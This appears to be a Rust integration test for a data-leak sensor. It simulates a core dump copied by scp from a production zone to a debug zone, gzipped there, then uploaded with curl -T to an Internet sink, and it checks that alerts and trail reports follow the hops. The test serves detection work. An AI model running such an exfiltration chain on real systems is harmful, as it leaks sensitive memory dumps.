//! The incident: production to debug to the Internet, each hop by an ordinary tool, each reported with its zones.

use sensor_abi::flow::Via;
use sensor_user::step::{Confidence, Severity, StepKind};
use serde_json::Value;

use super::{Shared, birth::identified, network::sshd};
use crate::harness::{
    expect::step,
    scene::{SOON, Scene},
    world::{
        Zone::{Debug, Internet, Production},
        ip_netns_exec,
    },
};

pub(super) const ALL: &[Shared] = &[("hops::production_to_debug_to_internet", production_to_debug_to_internet)];

fn production_to_debug_to_internet(scene: &Scene<'_>) {
    let dump = scene.core();
    let content = identified(scene, &dump);
    let (_sshd, mut arguments) = sshd(scene, Debug, Production);
    let received = scene.path("received");
    arguments.extend([dump.path.clone(), format!("root@{}:{received}", Debug.address(Production))]);
    scene.complete(ip_netns_exec(Production, "scp").args(&arguments));
    let first = step(StepKind::Sent).via(Via::Tcp).from("ssh[]").zones("production", "debug");
    let first = scene.sees(&dump, &first.sure(Confidence::Direct));
    scene.alerts(&dump, "dump-rank-raised", Severity::Medium, &step(StepKind::Sent).zones("production", "debug"));
    let kept = scene.sees(&dump, &step(StepKind::Written).to(&received).zones("debug", "debug").bytes(dump.size));
    scene.complete(ip_netns_exec(Debug, "gzip").args(["-1", "-k", &received]));
    let packed = scene.sees(&dump, &step(StepKind::Written).from("gzip[]").zones("debug", "debug"));
    let (mut sink, port) = scene.sink(Internet, Debug, 2_000_000);
    let address = Internet.address(Debug);
    let url = format!("http://{address}:{port}/up");
    scene.complete(ip_netns_exec(Debug, "curl").args(["-sS", "-T", &format!("{received}.gz"), &url]));
    assert!(sink.within(SOON).success());
    let last = step(StepKind::Sent).via(Via::Tcp).from("curl[]").zones("debug", "internet").destination(address, port);
    let alert = scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &last);
    assert_eq!(alert.step.content, Some(content), "{alert:#?}");
    assert_eq!(alert.step.origin_zone.as_deref(), Some("production"));
    let hops = [first.hops, kept.hops, packed.hops, alert.step.hops];
    assert!(hops.is_sorted_by(|a, b| a < b), "hops rise: {hops:?}");
    told(scene, &dump.id);
}

/// `dumptrail trail` tells the same, for people and for programs.
fn told(scene: &Scene<'_>, dump: &str) {
    let tree = scene.agent.verb(&["trail", dump]);
    assert!(tree.status.success(), "{tree:?}");
    let tree = String::from_utf8(tree.stdout).unwrap();
    assert!(tree.contains("received.gz") && tree.contains("internet"), "{tree}");
    let json = scene.agent.verb(&["trail", dump, "--format", "json"]);
    assert!(json.status.success(), "{json:?}");
    let json: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(json["dump"]["id"], dump);
    let nodes = json["nodes"].as_array().unwrap();
    let named = |end: &str| nodes.iter().any(|n| n["name"].as_str().is_some_and(|name| name.ends_with(end)));
    assert!(named("/received") && named("/received.gz"), "{json:#}");
    let list = scene.agent.verb(&["trail"]);
    assert!(list.status.success() && String::from_utf8(list.stdout).unwrap().contains(&dump[..8]));
    let unknown = scene.agent.verb(&["trail", "00000000000000000000000000000000"]);
    assert_eq!(unknown.status.code(), Some(1), "{unknown:?}");
}
